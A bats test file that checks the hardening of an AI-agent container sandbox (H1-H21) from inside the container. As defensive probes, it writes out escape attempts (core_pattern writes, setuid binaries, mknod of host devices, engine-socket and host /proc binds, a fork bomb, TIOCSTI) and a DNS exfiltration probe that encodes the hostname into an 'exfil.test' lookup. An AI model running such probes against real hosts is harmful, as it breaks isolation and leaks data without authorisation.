#!/usr/bin/env bats
# hardening.bats - the hardening checks H1-H21 (THREAT-MODEL.md), each looked at from inside a
# container run under the agent profile (--profile agent).  A check that fails here is a hole
# in the sandbox, not a style problem.

load helpers

# ---------------------------------------------------------------- H1 capabilities

# H1 as written ("all sets empty") holds for a non-root user; root keeps the profile's ceiling
# - see THREAT-MODEL.md, "Capabilities".
@test "H1: uid 1000: every capability set is empty, bounding = the profile's ceiling" {
	ceil=$(ceiling_mask)
	update_config ".process.user = {uid: 1000, gid: 1000} |
		.process.capabilities = {bounding: $(docker_caps), effective: $(docker_caps),
		permitted: $(docker_caps)}"
	in_agent 'grep -E "^Cap(Inh|Prm|Eff|Bnd|Amb):" /proc/self/status'
	[ "$status" -eq 0 ] || fail "$output"
	for s in Inh Prm Eff Amb; do
		grep -qP "^Cap$s:\t0{16}$" <<<"$output" || fail "Cap$s not empty: $output"
	done
	grep -qP "^CapBnd:\t$ceil$" <<<"$output" || fail "CapBnd is not the ceiling $ceil: $output"
}

@test "H1: root: permitted, effective and bounding are exactly the ceiling; Inh and Amb empty" {
	ceil=$(ceiling_mask)
	update_config ".process.capabilities = {bounding: $(docker_caps), effective: $(docker_caps),
		permitted: $(docker_caps)}"
	in_agent 'grep -E "^Cap(Inh|Prm|Eff|Bnd|Amb):" /proc/self/status'
	[ "$status" -eq 0 ] || fail "$output"
	for s in Prm Eff Bnd; do
		grep -qP "^Cap$s:\t$ceil$" <<<"$output" || fail "Cap$s is not the ceiling $ceil: $output"
	done
	grep -qP "^CapInh:\t0{16}$" <<<"$output" || fail "CapInh: $output"
	grep -qP "^CapAmb:\t0{16}$" <<<"$output" || fail "CapAmb: $output"
}

@test "H1: a capability above the ceiling (SYS_ADMIN) is refused, naming it" {
	update_config '.process.capabilities.bounding += ["CAP_SYS_ADMIN"] |
		.process.capabilities.permitted += ["CAP_SYS_ADMIN"] |
		.process.capabilities.effective += ["CAP_SYS_ADMIN"]'
	in_agent true
	assert_clean_failure
	assert_output_contains SYS_ADMIN
}

# ---------------------------------------------------------------- H2 H3 seccomp, no_new_privs

@test "H2: seccomp filter mode, the profile's filter stacked on the engine's" {
	in_agent 'grep -E "^Seccomp(_filters)?:" /proc/self/status'
	[ "$status" -eq 0 ] || fail "$output"
	grep -qP '^Seccomp:\t2$' <<<"$output" || fail "$output"
	n=$(awk '/^Seccomp_filters:/ {print $2}' <<<"$output")
	[ "${n:-0}" -ge 1 ] || fail "no filter: $output"
	# With an engine filter as well, both are installed.
	update_config '.linux.seccomp = {defaultAction: "SCMP_ACT_ALLOW",
		syscalls: [{names: ["acct"], action: "SCMP_ACT_ERRNO"}]}'
	in_agent 'awk "/^Seccomp_filters:/ {print \$2}" /proc/self/status'
	[ "$status" -eq 0 ] && [ "$output" -ge 2 ] || fail "engine + profile filters: $output"
}

@test "H3: no_new_privs is set even when the config says false; a setuid binary gains nothing" {
	update_config '.process.noNewPrivileges = false | .process.user = {uid: 1000, gid: 1000}'
	# A setuid-root copy of the probe, owned by root in the (read-only) image.
	cp "$ROOTFS/usr/local/bin/sprobe" "$ROOTFS/usr/local/bin/sprobe-suid"
	chown 0:0 "$ROOTFS/usr/local/bin/sprobe-suid"
	chmod 4755 "$ROOTFS/usr/local/bin/sprobe-suid"
	in_agent 'grep NoNewPrivs /proc/self/status; sprobe-suid ids'
	[ "$status" -eq 0 ] || fail "$output"
	grep -qP '^NoNewPrivs:\t1$' <<<"$output" || fail "$output"
	grep -qx '1000 1000 1000' <<<"$output" || fail "setuid raised an id: $output"
}

# ---------------------------------------------------------------- H4 H5 H6 /proc and /sys

@test "H4: masked paths: files read empty, directories empty, unmount refused" {
	masked=$("$AGENTRT" profile show agent | jq -r '.maskedPaths[]')
	script='for p in '"$(echo $masked)"'; do
		[ -e "$p" ] || continue
		if [ -d "$p" ]; then n=$(ls -A "$p" | wc -l); else n=$(cat "$p" 2>/dev/null | wc -c); fi
		echo "$p $n"
		umount "$p" 2>/dev/null && echo "UNMOUNTED $p"
	done; true'
	in_agent "$script"
	[ "$status" -eq 0 ] || fail "$output"
	[ -n "$output" ] || fail "no masked path exists on this kernel"
	while read -r p n; do
		[ "$p" != UNMOUNTED ] || fail "umount of $n succeeded"
		[ "$n" -eq 0 ] || fail "$p is not masked: $n bytes/entries"
	done <<<"$output"
}

@test "H4: leak: /proc/kpageflags, kpagecount, kpagecgroup and vmallocinfo (every host page's flags, map count and memory cgroup; the host's physical addresses) read empty" {
	# 0400 root only, no capability check: root in a container without a user namespace read
	# the flags and owning cgroup of every physical page of the host (what Rowhammer and
	# cross-container page tracking need; pagemap hides frame numbers without CAP_SYS_ADMIN)
	# and vmallocinfo's phys= addresses
	in_agent 'for p in /proc/kpageflags /proc/kpagecount /proc/kpagecgroup /proc/vmallocinfo; do
		[ -e "$p" ] || continue; echo "$p $(head -c 4096 "$p" 2>/dev/null | wc -c)"; done'
	[ "$status" -eq 0 ] || fail "$output"
	[ -n "$output" ] || skip "none of them on this kernel"
	while read -r p n; do
		[ "$n" -eq 0 ] || fail "$p read $n bytes: $output"
	done <<<"$output"
}

@test "H5: /proc/sys and friends read-only: writing core_pattern back fails, sysrq not writable" {
	in_agent 'v=$(cat /proc/sys/kernel/core_pattern); printf "%s\n" "$v" > /proc/sys/kernel/core_pattern && echo WROTE
		for p in /proc/sysrq-trigger /proc/sys/kernel/hostname /proc/sys/vm/overcommit_memory \
			/proc/irq/default_smp_affinity $(ls -d /proc/bus/* /proc/fs/* 2>/dev/null | head -n 4); do
			[ -f $p ] || continue; r=$(sprobe open $p w); [ "$r" = ok ] && echo "WRITABLE $p"; echo "$p $r"; done; true'
	[ "$status" -eq 0 ] || fail "$output"
	! grep -q WROTE <<<"$output" || fail "core_pattern written: $output"
	! grep -q WRITABLE <<<"$output" || fail "$output"
	grep -qi 'read-only' <<<"$output" || fail "expected EROFS: $output"
}

@test "H6: /sys and the cgroup filesystems are read-only" {
	in_agent 'touch /sys/kernel/x 2>&1; grep " /sys " /proc/self/mounts
		mkdir /sys/fs/cgroup/x 2>/dev/null && echo MKDIR
		for d in /sys/fs/cgroup/*/; do mkdir "$d/agentrt-x" 2>/dev/null && echo "MKDIR $d"
			[ "$(sprobe open "$d/cgroup.procs" w)" = ok ] && echo "WRITABLE $d"; done
		awk "\$3 ~ /^cgroup/ && \$4 !~ /^ro/ {print \"RW\", \$2}" /proc/self/mounts; true'
	[ "$status" -eq 0 ] || fail "$output"
	grep -qi 'read-only' <<<"$output" || fail "touch /sys/kernel/x: $output"
	grep -q ' /sys sysfs ro' <<<"$output" || fail "/sys not ro: $output"
	! grep -qE 'MKDIR|WRITABLE|^RW' <<<"$output" || fail "$output"
}

# ---------------------------------------------------------------- H7 devices

@test "H7: /dev holds only the default devices; mknod fails" {
	in_agent 'ls -A /dev; mknod /tmp/x b 8 0 2>&1; mknod /workspace/x c 1 1 2>&1; true'
	[ "$status" -eq 0 ] || fail "$output"
	allowed=" null zero full random urandom tty console ptmx pts shm mqueue fd stdin stdout stderr core "
	for e in $(grep -v mknod <<<"$output"); do
		[[ "$allowed" == *" $e "* ]] || fail "unexpected /dev/$e"
	done
	[ "$(grep -c 'mknod:' <<<"$output")" -eq 2 ] || fail "mknod succeeded: $output"
}

# The image ships device nodes the profile does not allow: the devices cgroup (v1 here, eBPF on
# v2) must refuse to open them even for root with CAP_DAC_OVERRIDE.  Opened read-only, nothing
# is read.
@test "H7: a device node from the image that the profile does not allow cannot be opened" {
	mkdir "$ROOTFS/imgdev"
	mknod "$ROOTFS/imgdev/kmsg" c 1 11
	mknod "$ROOTFS/imgdev/loop0" b 7 0
	mknod "$ROOTFS/imgdev/tun" c 10 200
	mknod "$ROOTFS/imgdev/null" c 1 3 # allowed: proves the probe itself works
	in_agent 'for d in kmsg loop0 tun null; do echo "$d $(sprobe open /imgdev/$d r)"; done'
	[ "$status" -eq 0 ] || fail "$output"
	grep -qx 'null ok' <<<"$output" || fail "allowed device not openable: $output"
	for d in kmsg loop0 tun; do
		grep -qxE "$d (EPERM|EACCES)" <<<"$output" || fail "$d: $output"
	done
}

# Docker's --device /dev/null:/dev/mynull gives linux.devices a default device at another path
# (and its cgroup rule): the agent profile refused it by name.  The device is what the ceiling
# is about: null, zero, full, random and urandom are taken at any path below /dev; any other
# device, or one of them outside /dev (a node in the workspace would reach the host), is not.
@test "H7: device-other-path: a default memory device at another path below /dev is taken, nothing else is" {
	update_config '.linux.devices = [{"path": "/dev/mynull", "type": "c", "major": 1, "minor": 3, "fileMode": 438},
		{"path": "/dev/sub/rand", "type": "c", "major": 1, "minor": 9}] |
		.linux.resources.devices += [{"allow": true, "type": "c", "major": 1, "minor": 3, "access": "rwm"}]'
	in_agent 'stat -c "%F %t:%T %a" /dev/mynull /dev/sub/rand; echo hi > /dev/mynull && echo WROTE
		head -c 8 /dev/sub/rand | wc -c'
	[ "$status" -eq 0 ] || fail "$output"
	grep -qx 'character special file 1:3 666' <<<"$output" || fail "$output"
	grep -qx 'character special file 1:9 .*' <<<"$output" || fail "$output"
	grep -qx WROTE <<<"$output" || fail "$output"
	grep -qx 8 <<<"$output" || fail "$output"
	local bad
	for bad in '{"path": "/dev/mykmsg", "type": "c", "major": 1, "minor": 11}' \
		'{"path": "/dev/myptmx", "type": "c", "major": 5, "minor": 2}' \
		'{"path": "/workspace/null", "type": "c", "major": 1, "minor": 3}' \
		'{"path": "/dev/../tmp/null", "type": "c", "major": 1, "minor": 3}' \
		'{"path": "/dev/mynull", "type": "b", "major": 1, "minor": 3}'; do
		update_config ".linux.devices = [$bad]"
		in_agent 'echo RAN'
		[ "$status" -ne 0 ] && ! grep -q RAN <<<"$output" || fail "$bad: taken: $output"
		grep -q 'is not allowed' <<<"$output" || fail "$bad: $output"
	done
}

@test "H7: the devices cgroup of a running agent container denies by default (v1)" {
	[ -d /sys/fs/cgroup/devices ] || skip "no cgroup v1 devices controller"
	start_agent
	cg=$(awk -F: '$2 == "devices" {print $3}' /proc/$PID/cgroup)
	list=$(cat "/sys/fs/cgroup/devices$cg/devices.list")
	! grep -q '^a ' <<<"$list" || fail "devices cgroup allows everything: $list"
	grep -q '^c 1:3 rwm' <<<"$list" || fail "no /dev/null rule: $list"
	# mknod rights ("b *:* m") are Docker's default and harmless without CAP_MKNOD; read or
	# write access to a block device is not.
	! grep -qE '^b [^ ]+ [^ ]*[rw]' <<<"$list" || fail "block devices readable/writable: $list"
}

# ---------------------------------------------------------------- H8 H9 H10 syscalls

@test "H8: mount, umount and pivot_root are denied" {
	in_agent 'mount -t tmpfs none /mnt 2>&1 && echo MOUNTED; umount /proc 2>&1 && echo UMOUNTED
		for p in mount umount2 pivot_root fsopen open_tree move_mount; do echo "$p $(try-syscall $p)"; done'
	! grep -qE 'MOUNTED|UMOUNTED' <<<"$output" || fail "$output"
	for p in mount umount2 pivot_root fsopen open_tree move_mount; do
		assert_denied "$(awk -v p=$p '$1 == p {print $2}' <<<"$output")" "$p"
	done
}

@test "H9: no new namespaces: unshare, clone and clone3 with CLONE_NEWUSER, setns" {
	in_agent 'for p in unshare-user unshare-net unshare-mnt clone-newuser setns; do
		echo "$p $(try-syscall $p)"; done; echo "clone3 $(sprobe clone3-newuser)"'
	[ "$status" -eq 0 ] || fail "$output"
	for p in unshare-user unshare-net unshare-mnt clone-newuser setns; do
		assert_denied "$(awk -v p=$p '$1 == p {print $2}' <<<"$output")" "$p"
	done
	# clone3 cannot be argument-filtered (flags are in memory): ENOSYS makes libc fall back to clone.
	c3=$(awk '$1 == "clone3" {print $2}' <<<"$output")
	[[ "$c3" =~ ^(EPERM|ENOSYS|EACCES)$ ]] || fail "clone3(CLONE_NEWUSER): $c3"
}

@test "H10: bpf, perf, keyrings, userfaultfd, io_uring, modules, kexec, clock, reboot, ... denied" {
	probes="bpf perf_event_open keyctl add_key userfaultfd io_uring_setup open_by_handle_at
		init_module finit_module kexec_load clock_settime settimeofday reboot swapon acct syslog chroot"
	in_agent "for p in $(echo $probes); do echo \"\$p \$(try-syscall \$p)\"; done"
	[ "$status" -eq 0 ] || fail "$output"
	for p in $probes; do
		assert_denied "$(awk -v p=$p '$1 == p {print $2}' <<<"$output")" "$p"
	done
}

# ---------------------------------------------------------------- H11 H12 H13 H14

# The agent profile allows ptrace among the container's own processes (THREAT-MODEL.md,
# "ptrace"; tests/security/ptrace.bats): H11's "cannot ptrace outside" is the pid namespace
# there, and agent-strict still refuses ptrace outright, as H11 was written.
@test "H11: only the container's processes are visible; agent-strict: ptrace and process_vm_readv denied" {
	in_agent 'ls -d /proc/[0-9]* | wc -l'
	[ "$status" -eq 0 ] || fail "$output"
	n=$(head -n1 <<<"$output")
	[ "$n" -le 4 ] || fail "$n processes visible"
	AGENT_PROFILE=agent-strict in_agent 'echo "ptrace1 $(try-syscall ptrace 1)";
		echo "ptrace $(try-syscall ptrace)"; echo "pvr $(try-syscall process_vm_readv 1)"'
	[ "$status" -eq 0 ] || fail "$output"
	for p in ptrace1 ptrace pvr; do
		assert_denied "$(awk -v p=$p '$1 == p {print $2}' <<<"$output")" "$p"
	done
}

# host-proc-bind: an engine bind of the host's procfs (`-v /proc:/host/proc`, a monitoring
# agent's habit) showed every host process past the pid namespace, their roots and
# environments where ptrace's same-uid rule lets (root in the container holds CAP_SETUID, so
# any host user's), and the /proc files the profile masks (kpageflags, vmallocinfo) unmasked.
# Refused at create with one line, whatever the source's spelling; nothing is left behind.
@test "H11: host-proc-bind: an engine bind of the host's /proc is refused" {
	local src
	ln -s /proc "$BUNDLE/proc-link"
	for src in /proc /proc/sys /proc/1 "$BUNDLE/proc-link"; do
		cp "$BUNDLE/config.json" "$BUNDLE/config.orig.json"
		update_config ".mounts += [{destination: \"/host/proc\", type: \"bind\", source: \"$src\", options: [\"rbind\", \"ro\"]}]"
		in_agent 'ls -d /host/proc/[0-9]* 2>/dev/null | wc -l; wc -c </host/proc/kpageflags' hp1
		mv "$BUNDLE/config.orig.json" "$BUNDLE/config.json"
		assert_clean_failure
		[[ "$output" == *"$src"* && "$output" != *$'\n'* ]] || fail "[$src] not one line naming the source: $output"
		[ -z "$(rt list -q)" ] || fail "[$src] left behind: $(rt list)"
	done
}

@test "H12: pid, net, ipc, uts, mnt and cgroup namespaces are not the host's" {
	start_agent
	for ns in net pid ipc uts mnt cgroup; do
		[ "$(readlink /proc/self/ns/$ns)" != "$(readlink /proc/$PID/ns/$ns)" ] || fail "$ns ns shared with the host"
	done
}

@test "H12: joining the host's network or pid namespace is refused" {
	update_config '.linux.namespaces |= map(if .type == "network" then .path = "/proc/1/ns/net" else . end)'
	in_agent true
	assert_clean_failure
	fresh_bundle
	update_config '.linux.namespaces |= map(if .type == "pid" then .path = "/proc/1/ns/pid" else . end)'
	in_agent true
	assert_clean_failure
}

@test "H12: host-ipc: an engine config without an ipc namespace (--ipc host, hostIPC) is refused with one line" {
	update_config '.linux.namespaces |= map(select(.type != "ipc"))'
	in_agent true
	assert_clean_failure
	assert_output_contains "joining the host ipc namespace is not allowed"
	[ -z "$(rt list -q)" ]
}

# An engine volume below a scratch path (/tmp/vol, a pod's emptyDir under /tmp): the profile's
# scratch tmpfs must be mounted before it, not over it (critest "starting container with volume").
@test "scratch-under-volume: a volume below /tmp, /var/tmp or the home stays visible above the scratch tmpfs" {
	mkdir -p "$BUNDLE/v1" "$BUNDLE/v2" "$BUNDLE/v3"
	echo one >"$BUNDLE/v1/f"
	echo two >"$BUNDLE/v2/f"
	echo three >"$BUNDLE/v3/f"
	update_config '.process.env += ["HOME=/home/agent"] |
		.mounts += [{"destination": "/tmp/vol", "type": "bind", "source": "'"$BUNDLE/v1"'", "options": ["rbind"]},
		{"destination": "/var/tmp/a/b", "type": "bind", "source": "'"$BUNDLE/v2"'", "options": ["rbind"]},
		{"destination": "/home/agent/.cache/x", "type": "bind", "source": "'"$BUNDLE/v3"'", "options": ["rbind"]}]'
	in_agent 'cat /tmp/vol/f /var/tmp/a/b/f /home/agent/.cache/x/f; touch /tmp/scratch-ok && echo writable'
	[ "$status" -eq 0 ] || fail "$output"
	[ "$output" = "$(printf 'one\ntwo\nthree\nwritable')" ] || fail "$output"
}

# The agent profile does not require a user namespace : root in the container is the
# host's uid 0, limited by capabilities, seccomp and no_new_privs.  Reported, not hidden.
@test "H12: user namespace (CIS 5.30)" {
	start_agent
	if [ "$(readlink /proc/self/ns/user)" = "$(readlink /proc/$PID/ns/user)" ]; then
		skip "agent profile: no user namespace unless the engine asks (THREAT-MODEL.md, 'Root in the container')"
	fi
}

@test "H13: no mount is in a shared peer group" {
	in_agent 'grep -c "shared:" /proc/self/mountinfo; true'
	[ "$output" = 0 ] || fail "shared mounts: $output"
}

@test "H14: engine sockets: none inside, and a bind of one is refused" {
	in_agent 'for s in /var/run/docker.sock /run/docker.sock /run/containerd/containerd.sock /run/podman/podman.sock; do
		[ -S $s ] && echo "SOCKET $s"; done; true'
	[ "$status" -eq 0 ] && [ -z "$output" ] || fail "$output"
	mkdir -p "$BUNDLE/eng"
	python3 -c 'import socket,sys; s=socket.socket(socket.AF_UNIX); s.bind(sys.argv[1])' "$BUNDLE/eng/docker.sock"
	update_config ".mounts += [{source: \"$BUNDLE/eng/docker.sock\", destination: \"/var/run/docker.sock\",
		type: \"bind\", options: [\"rbind\"]}]"
	in_agent true
	assert_clean_failure
	assert_output_contains docker.sock
	# The same socket under another name, and its directory: still refused.
	fresh_bundle
	mkdir -p "$BUNDLE/eng"
	python3 -c 'import socket,sys,time; s=socket.socket(socket.AF_UNIX); s.bind(sys.argv[1]); s.listen(5); time.sleep(20)' \
		"$BUNDLE/eng/docker.sock" 3>&- &
	listener=$!
	for i in $(seq 50); do [ -S "$BUNDLE/eng/docker.sock" ] && break; sleep 0.1; done
	update_config ".mounts += [{source: \"$BUNDLE/eng\", destination: \"/engine\", type: \"bind\", options: [\"rbind\"]}]"
	in_agent 'echo "connect $(sprobe connect-unix /engine/docker.sock)"'
	kill "$listener"; wait "$listener" 2>/dev/null || true
	if [ "$status" -eq 0 ] && grep -qx 'connect ok' <<<"$output"; then
		finding "H14: an engine socket inside a bind-mounted directory is reachable (connect() works through the read-only bind): -v \$DIR:/engine with \$DIR/docker.sock"
	fi
}

# ---------------------------------------------------------------- H15 H16

@test "H15: read-only root; /workspace, /tmp writable, nosuid and nodev" {
	in_agent 'touch /x 2>&1; touch /etc/x 2>&1; touch /workspace/x && echo WS; touch /tmp/x && echo TMP
		awk "\$5 == \"/workspace\" || \$5 == \"/tmp\" || \$5 == \"/\" {print \$5, \$6}" /proc/self/mountinfo'
	[ "$status" -eq 0 ] || fail "$output"
	[ "$(grep -ci 'read-only' <<<"$output")" -eq 2 ] || fail "root writable: $output"
	grep -qx WS <<<"$output" && grep -qx TMP <<<"$output" || fail "$output"
	grep -qE '^/ ro' <<<"$output" || fail "/ not ro: $output"
	for m in /workspace /tmp; do
		opts=$(awk -v m=$m '$1 == m {print $2}' <<<"$output")
		[[ ",$opts," == *,nosuid,* && ",$opts," == *,nodev,* ]] || fail "$m: $opts"
	done
}

# The profile: "an engine's mount there (-v $PWD:/workspace) is kept but made nosuid,nodev".
@test "H15: an engine's bind at /workspace is kept (writable view), nosuid and nodev" {
	mkdir -p "$BUNDLE/ws"
	echo host >"$BUNDLE/ws/file"
	update_config ".mounts += [{destination: \"/workspace\", type: \"bind\", source: \"$BUNDLE/ws\", options: [\"rbind\"]}]"
	in_agent 'cat /workspace/file; touch /workspace/new && echo WROTE
		awk "\$5 == \"/workspace\" {print \$6}" /proc/self/mountinfo'
	if [ "$status" -ne 0 ]; then
		assert_clean_failure
		finding "H15: an engine bind at /workspace makes create fail under the agent profile: $output"
	fi
	grep -qx host <<<"$output" && grep -qx WROTE <<<"$output" || fail "$output"
	opts=$(tail -n1 <<<"$output")
	[[ ",$opts," == *,nosuid,* && ",$opts," == *,nodev,* ]] || fail "/workspace: $opts"
}

# rbind-submount-rw: the profile's ro, nosuid and nodev on an engine bind reached only its top
# mount; a mount below the source (a host's /sys with its cgroup hierarchies, /proc with
# binfmt_misc, a /mnt or /srv with disks) kept rw, suid and dev in the container.  The source's
# submount here is a tmpfs made in a private mount namespace of the test's, where the runtime
# runs too; the host's mount table never sees it.  Checked from inside (mountinfo, a write) and
# from the test's namespace afterwards (the file is not there).
@test "H15: rbind-submount-rw: a host bind's submounts are read-only, nosuid and nodev too" {
	requires unshare
	local opt
	for opt in '"rbind"' '"rbind", "ro"'; do
		rm -rf "$BUNDLE/src"
		mkdir -p "$BUNDLE/src/sub"
		cp "$BUNDLE/config.json" "$BUNDLE/config.orig.json"
		update_config ".mounts += [{destination: \"/data\", type: \"bind\", source: \"$BUNDLE/src\", options: [$opt]}]"
		set_cmd 'touch /data/x 2>&1; touch /data/sub/x 2>&1 && echo WROTE-SUB
			awk "\$5 == \"/data\" || \$5 == \"/data/sub\" {print \$5, \$6}" /proc/self/mountinfo'
		run unshare -m --propagation private sh -c "mount -t tmpfs -o size=1m,mode=755 agentrt-sub '$BUNDLE/src/sub' &&
			timeout 60 '$AGENTRT' --root '$TEST_ROOT' --profile '$AGENT_PROFILE' run --bundle '$BUNDLE' rb1 </dev/null 2>&1
			echo rc=\$?; ls -A '$BUNDLE/src/sub' | sed 's/^/host-sub: /'"
		mv "$BUNDLE/config.orig.json" "$BUNDLE/config.json"
		grep -qx 'rc=0' <<<"$output" || fail "[$opt] run: $output"
		! grep -q 'WROTE-SUB\|^host-sub: ' <<<"$output" || fail "[$opt] the bind's submount was written: $output"
		for m in /data /data/sub; do
			o=$(awk -v m=$m '$1 == m {print $2}' <<<"$output")
			[[ ",$o," == *,ro,* && ",$o," == *,nosuid,* && ",$o," == *,nodev,* ]] ||
				fail "[$opt] $m: ${o:-not mounted}: $output"
		done
	done
}

@test "H16: default limits applied; the config's pids limit holds against a fork bomb" {
	# Defaults (profile: memory 2g, pids 1024, 2 cpus) when the engine set none.
	update_config 'del(.linux.resources)'
	start_agent c1
	pcg=$(awk -F: '$2 == "pids" {print $3}' /proc/$PID/cgroup)
	mcg=$(awk -F: '$2 == "memory" {print $3}' /proc/$PID/cgroup)
	[ "$(cat /sys/fs/cgroup/pids$pcg/pids.max)" = 1024 ] || fail "pids.max $(cat /sys/fs/cgroup/pids$pcg/pids.max)"
	[ "$(cat /sys/fs/cgroup/memory$mcg/memory.limit_in_bytes)" = $((2 << 30)) ] || fail "memory"
	rt delete --force c1
	# A bomb stops at pids.max and the container can still be deleted.
	update_config '.linux.resources.pids = {limit: 16}'
	# ash gives up on the first failed fork: the bomb runs in a subshell, the count needs no fork.
	in_agent '(i=0; while [ $i -lt 40 ]; do sleep 20 & i=$((i + 1)); done) 2>/dev/null
		set -- /proc/[0-9]*; echo "procs $#"' bomb
	n=$(awk '$1 == "procs" {print $2}' <<<"$output")
	[ -n "$n" ] && [ "$n" -le 16 ] || fail "pids limit not enforced: $output"
}

# ---------------------------------------------------------------- H17 H18 egress

has_egress() {
	"$AGENTRT" --help 2>/dev/null | grep -qE '^  egress '
}

@test "H17: egress denied: only loopback, metadata and host addresses unreachable" {
	# (busybox wget crashes without a route, so the probe connects itself.)
	in_agent 'ls /sys/class/net; for a in 169.254.169.254 192.0.2.1 10.0.0.1 172.17.0.1; do
		echo "$a $(sprobe connect-tcp $a 80)"; done'
	[ "$status" -eq 0 ] || fail "$output"
	[ "$(head -n1 <<<"$output")" = lo ] && [ "$(grep -c . <<<"$output")" -eq 5 ] || fail "interfaces: $output"
	! grep -q ' ok$' <<<"$output" || fail "reachable: $output"
}

@test "H17: an allowlisted host:port is reachable, another port on the same host is not" {
	has_egress || skip "no \`agentrt egress' command in this build (egress module not merged yet)"
	requires netns
	# Fake internet: a veth pair into a namespace holding 192.0.2.1 with listeners on 80 and 81.
	make_netns
	ip link add agrt-h$$ type veth peer name agrt-c$$
	ip link set agrt-h$$ netns "$NETNS"
	ip -n "$NETNS" addr add 192.0.2.1/24 dev agrt-h$$
	ip -n "$NETNS" link set agrt-h$$ up
	ip -n "$NETNS" link set lo up
	ip netns exec "$NETNS" timeout 60 busybox httpd -f -p 192.0.2.1:80 -h "$BUNDLE" &
	ip netns exec "$NETNS" timeout 60 busybox httpd -f -p 192.0.2.1:81 -h "$BUNDLE" &
	make_netns
	cns=$NETNS
	ip link set agrt-c$$ netns "$cns"
	ip -n "$cns" addr add 192.0.2.2/24 dev agrt-c$$
	ip -n "$cns" link set agrt-c$$ up
	ip -n "$cns" link set lo up
	update_config ".linux.namespaces |= map(if .type == \"network\" then .path = \"/var/run/netns/$cns\" else . end)"
	# an operator's profile: agent plus one host:port (annotations may only add registry names)
	printf '{"name": "h17", "extends": "agent", "egress": {"default": "deny", "allow": ["192.0.2.1/32:80"]}}' \
		>"$BUNDLE/h17.json"
	AGENT_PROFILE=$BUNDLE/h17.json in_agent 'echo "p80 $(sprobe connect-tcp 192.0.2.1 80)"; echo "p81 $(sprobe connect-tcp 192.0.2.1 81)"'
	grep -qx 'p80 ok' <<<"$output" || fail "allowed port: $output"
	! grep -qx 'p81 ok' <<<"$output" || fail "non-listed port reachable: $output"
	ip netns pids "${NETNS_CREATED[0]}" | xargs -r kill 2>/dev/null || true
}

@test "H18: DNS only through the runtime's resolver; names off the allowlist never leave" {
	has_egress || skip "no \`agentrt egress' command in this build (egress module not merged yet)"
	in_agent 'nslookup $(head -c 30 /etc/hostname | base32 | tr -d =).exfil.test 2>&1 && echo RESOLVED;
		nslookup x.test 198.51.100.53 2>&1 && echo OTHER; true'
	! grep -qE 'RESOLVED|OTHER' <<<"$output" || fail "$output"
}

# ---------------------------------------------------------------- H19 H20 H21

@test "H19: TIOCSTI into the caller's terminal is denied" {
	requires script
	set_cmd 'echo "tiocsti $(try-syscall tiocsti 0)"'
	run script -qec "timeout 30 '$AGENTRT' --root '$TEST_ROOT' --profile agent run --bundle '$BUNDLE' tty1" /dev/null
	grep -q 'tiocsti' <<<"$output" || fail "$output"
	grep -qE 'tiocsti (EPERM|EACCES|EIO|ENOTTY)' <<<"$output" || fail "TIOCSTI allowed: $output"
}

@test "H20: run and exec: only fds 0-2 and a container cwd, whatever the caller holds open" {
	set_args sleep 1000
	status=0
	bash -c "exec 7</ 8</etc 9</sys/fs/cgroup; exec timeout 30 '$AGENTRT' --root '$TEST_ROOT' --profile agent \
		run -d --bundle '$BUNDLE' c1" </dev/null >/dev/null 2>"$BUNDLE/err" || status=$?
	[ "$status" -eq 0 ] || fail "$(cat "$BUNDLE/err")"
	run bash -c "exec 7</ 8</etc 9</sys/fs/cgroup; timeout 30 '$AGENTRT' --root '$TEST_ROOT' --profile agent exec c1 fdleak"
	[ "$status" -eq 0 ] || fail "$output"
	fds=$(awk '$1 == "fd" {print $2}' <<<"$output" | tr '\n' ' ')
	[ "$fds" = "0 1 2 " ] || fail "exec fds: $output"
	grep -qx 'cwd /' <<<"$output" && grep -qx 'root /' <<<"$output" || fail "$output"
	# The init (pid 1) too, seen from the host.
	pid=$(container_pid c1)
	n=$(ls /proc/$pid/fd | wc -l)
	[ "$n" -le 3 ] || fail "init has $n fds: $(ls -l /proc/$pid/fd)"
}

@test "H21: exec --cap and --process: no inheritable or ambient capabilities" {
	start_agent
	run rt exec --cap CAP_KILL c1 grep -E '^Cap(Inh|Amb):' /proc/self/status
	[ "$status" -eq 0 ] || fail "$output"
	[ "$(grep -cP '^Cap(Inh|Amb):\t0{16}$' <<<"$output")" -eq 2 ] || fail "$output"
	jq '.process | .args = ["grep", "-E", "^Cap(Inh|Amb):", "/proc/self/status"] |
		.capabilities.inheritable = ["CAP_KILL"] | .capabilities.ambient = ["CAP_KILL"]' \
		"$BUNDLE/config.json" >"$BUNDLE/proc.json"
	run rt exec --process "$BUNDLE/proc.json" c1
	if [ "$status" -eq 0 ]; then
		[ "$(grep -cP '^Cap(Inh|Amb):\t0{16}$' <<<"$output")" -eq 2 ] || fail "inheritable/ambient granted: $output"
	else
		assert_clean_failure
	fi
	# Above the ceiling: refused, not trimmed.
	run rt exec --cap CAP_SYS_ADMIN c1 true
	assert_clean_failure
}
